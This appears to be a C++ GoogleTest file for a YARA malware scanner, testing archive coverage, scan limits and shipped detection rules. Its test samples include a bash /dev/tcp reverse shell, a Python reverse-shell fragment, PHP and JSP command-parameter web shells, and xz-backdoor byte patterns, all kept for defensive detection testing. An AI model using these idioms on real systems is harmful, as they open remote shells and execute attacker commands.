#include "verifier/scanners/scan.h"

#include <gtest/gtest.h>

#include <string>

#include "airlock/crypto/hash.h"
#include "tests/support/matchers.h"
#include "tests/verifier/parsers/inputs.h"
#include "verifier/scanners/yara_scanner.h"

namespace airlock::verifier {
namespace {

using notes::ScanOutcome;
using testing_support::FailsWith;
using testing_support::FileBytes;
using testing_support::Inputs;

Rules RulesOf(std::string text) {
  const NoteDigest digest = crypto::DigestNote(text);
  return {std::move(text), digest};
}

Result<notes::Scan> Scan(std::string_view bytes,
                         const Rules& rules = ShippedRules(),
                         const Limits& limits = {}) {
  Inputs inputs;
  inputs.Add(notes::ItemRole::kArtifact, "object", bytes);
  notes::Job job;
  job.limits = limits;
  auto scan = ScanObject(job, inputs.front(), rules);
  if (scan.ok()) {
    const auto again = notes::ParseScan(notes::Format(*scan));
    EXPECT_OK(again);
  }
  return scan;
}

std::string Bundle(const std::string& name) {
  return FileBytes(std::string(AIRLOCK_TESTDATA) + "/bundles/good/" + name);
}

TEST(Scan, OfACleanPackageCoversEveryByte) {
  const auto scan = Scan(Bundle("plain-deb.deb"));
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kClean);
  EXPECT_EQ(scan->covered_bytes, scan->total_bytes);
  EXPECT_GT(scan->total_bytes, 0U);
  EXPECT_EQ(scan->rules, ShippedRules().digest);
  EXPECT_TRUE(scan->engine.starts_with("yara 4."));
}

TEST(Scan, FindsTheTestFileInTheOpen) {
  const std::string text = Bundle("eicar-text.txt");
  const auto scan = Scan(text);
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kMatch);
  ASSERT_EQ(scan->findings.size(), 1U);
  EXPECT_EQ(scan->findings[0].rule, "eicar_test_file");
  EXPECT_EQ(scan->findings[0].path, "");
  EXPECT_EQ(scan->findings[0].digest, crypto::DigestObject(AsBytes(text)));
}

TEST(Scan, FindsTheTestFileThreePackingsDeep) {
  const auto scan = Scan(Bundle("eicar-deb.deb"));
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kMatch);
  ASSERT_EQ(scan->findings.size(), 1U);
  EXPECT_EQ(scan->findings[0].path, "data.tar.xz!/evil.gz!/content");
}

TEST(Scan, ScansABrokenContainerAsTheFileThatItIs) {
  const auto scan = Scan(Bundle("broken-gzip-inside-tar.tar"));
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kClean);
  EXPECT_EQ(scan->total_bytes, 10U);
}

TEST(Scan, IsInconclusiveWhereTheDepthEnds) {
  const auto scan = Scan(Bundle("nested-too-deep-tar.tar"));
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kInconclusive);
  EXPECT_EQ(scan->cause, "limit");
}

TEST(Scan, IsInconclusiveOnALeafThatIsTooLarge) {
  const std::string large((192 << 20) + 1, 'x');
  const auto scan = Scan(large);
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kInconclusive);
  EXPECT_EQ(scan->cause, "limit");
  EXPECT_EQ(scan->covered_bytes, 0U);
  EXPECT_EQ(scan->total_bytes, large.size());
}

TEST(Scan, IsInconclusiveAfterTooManyMatches) {
  // yara counts a million matches of one string and then looks away.
  const Rules rules =
      RulesOf("rule many { strings: $a = \"aaaa\" condition: #a > 2000000 }");
  const auto scan = Scan(std::string(3 << 20, 'a'), rules);
  ASSERT_OK(scan);
  EXPECT_EQ(scan->outcome, ScanOutcome::kInconclusive);
  EXPECT_EQ(scan->cause, "limit");
}

TEST(Scan, CountsFindingsBeyondTheList) {
  std::string text;
  for (int i = 0; i < 70; ++i) {
    text += "rule r" + std::to_string(i) + " { condition: true }\n";
  }
  const auto scan = Scan("x", RulesOf(text));
  ASSERT_OK(scan);
  EXPECT_EQ(scan->findings.size(), 64U);
  EXPECT_EQ(scan->more_findings, 6U);
}

TEST(Scan, RefusesWhatTheUnpackerRefuses) {
  const std::string bytes = FileBytes(std::string(AIRLOCK_TESTDATA) +
                                      "/bundles/hostile/bytes-after-end.tar");
  EXPECT_THAT(Scan(bytes), FailsWith(Reason::kTrailingBytes));
}

TEST(Scanner, NamesTheRuleAndTheLineOfAnError) {
  const auto scanner =
      Scanner::Compile(RulesOf("rule good { condition: true }\n"
                               "rule bad {\n  condition:\n    $missing\n}\n"));
  ASSERT_THAT(scanner, FailsWith(Reason::kConfiguration));
  EXPECT_THAT(scanner.failure().detail, ::testing::HasSubstr("line 5"));
  EXPECT_THAT(scanner.failure().detail, ::testing::HasSubstr("bad"));
}

TEST(Scanner, DoesNotInclude) {
  EXPECT_THAT(Scanner::Compile(RulesOf("include \"/etc/passwd\"\n")),
              FailsWith(Reason::kConfiguration));
}

TEST(PrepareScanners, CompilesTheShippedRules) { EXPECT_OK(PrepareScanners()); }

// One text that each shipped rule must find, and one that it must not.
struct Sample {
  const char* rule;
  std::string bad;
  std::string good;
};

class ShippedRule : public ::testing::TestWithParam<Sample> {};

std::vector<std::string> RulesFound(std::string_view text) {
  std::vector<std::string> found;
  const auto scan = Scan(text);
  EXPECT_OK(scan);
  for (const auto& finding : scan->findings) found.push_back(finding.rule);
  return found;
}

TEST_P(ShippedRule, FindsTheWholeIdiomOnly) {
  const Sample& sample = GetParam();
  EXPECT_THAT(RulesFound(sample.bad),
              ::testing::Contains(std::string(sample.rule)));
  EXPECT_THAT(RulesFound(sample.good), ::testing::IsEmpty());
}

std::string Elf(std::string_view mark) {
  std::string elf(
      "\x7f"
      "ELF\2\1\1",
      7);
  elf.resize(0xe0, '\0');
  return elf + std::string(mark) + std::string(100, '\0');
}

INSTANTIATE_TEST_SUITE_P(
    All, ShippedRule,
    ::testing::Values(
        Sample{"bash_reverse_shell",
               std::string("x; bash -i >& /dev/") + "tcp/10.0.0.1/4242 0>&1\n",
               "bash opens /dev/tcp/host/port as a socket\n"},
        Sample{"python_reverse_shell",
               std::string("s.connect((\"10.0.0.1\",4242));") +
                   "os.dup2(s.fileno(),0)\n",
               "s.connect((\"10.0.0.1\",4242)); print(s)\n"},
        Sample{"php_command_parameter",
               std::string("<?php @eval($_PO") + "ST['x']); ?>\n",
               "<?php $x = $_POST['x']; eval('1'); ?>\n"},
        Sample{"jsp_command_parameter",
               std::string("<% Runtime.getRuntime().exec(request.") +
                   "getParameter(\"c\")); %>\n",
               "Runtime.getRuntime().exec(\"ls\");\n"},
        Sample{"upx_packed_elf", Elf("UPX!"), Elf("UPX?")},
        Sample{"xz_backdoor_build_script",
               std::string("####Hel") + "lo####\n####Wor" + "ld####\n",
               std::string("####Hel") + "lo####\n"},
        Sample{"xz_backdoor_code",
               std::string(AsText(*HexDecode(
                   "f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954"
                   "241848894c2410"))),
               std::string(AsText(*HexDecode("f30f1efa554889f54c89ce")))}),
    [](const auto& one) { return std::string(one.param.rule); });

}  // namespace
}  // namespace airlock::verifier
